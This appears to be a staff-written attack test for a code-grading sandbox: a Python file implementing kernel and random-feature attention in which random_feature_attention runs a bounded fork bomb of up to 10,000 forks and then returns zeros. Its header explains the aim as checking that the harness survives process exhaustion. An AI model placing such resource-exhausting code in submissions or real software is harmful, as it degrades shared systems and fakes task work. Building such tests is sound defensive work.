# [staff] attack example `attack-fork-bomb`: random_feature_attention forks children (each sleeps 20 s, then
# exits; children never fork) until fork fails, then returns zeros. Kept bounded on purpose: at most 10_000
# forks over the whole run, in case the process limits were missing. Expected: 0 on random_feature_attention,
# every other question right (later calls and submissions unaffected), the batch goes on.
import math
import os
import time

import torch

MAX_FORKS = 10_000
forks = 0


def _bomb():
    global forks
    while forks < MAX_FORKS:
        forks += 1
        try:
            pid = os.fork()
        except OSError:
            continue                                  # out of processes: keep trying until the budget is used
        if pid == 0:
            time.sleep(20)
            os._exit(0)


def softmax_attention(Q, K, V, causal=False):
    N, D = Q.shape
    logits = Q @ K.T / math.sqrt(D)
    if causal:
        logits = logits.masked_fill(torch.ones(N, N, dtype=torch.bool).triu(1), float("-inf"))
    A = torch.exp(logits - logits.max(dim=1, keepdim=True).values)
    return A @ V / A.sum(dim=1, keepdim=True)


def sample_frequencies(D, D_random, sigma_sq, generator=None):
    return torch.randn(D_random, D, generator=generator, dtype=torch.float64) / math.sqrt(sigma_sq)


def random_features(X, W):
    XW = X @ W.T
    return torch.cat([torch.sin(XW), torch.cos(XW)], dim=1) / math.sqrt(W.shape[0])


def kernel_attention(Q, K, V, feature_map, causal=False):
    q, k = feature_map(Q), feature_map(K)
    if not causal:
        return (q @ (k.T @ V)) / (q @ k.sum(0))[:, None]
    S = torch.cumsum(k[:, :, None] * V[:, None, :], dim=0)
    Z = torch.cumsum(k, dim=0)
    return torch.einsum("nl,nlm->nm", q, S) / (q * Z).sum(1, keepdim=True)


def random_feature_attention(Q, K, V, W, causal=False):
    _bomb()
    return torch.zeros(Q.shape[0], V.shape[1], dtype=torch.float64)
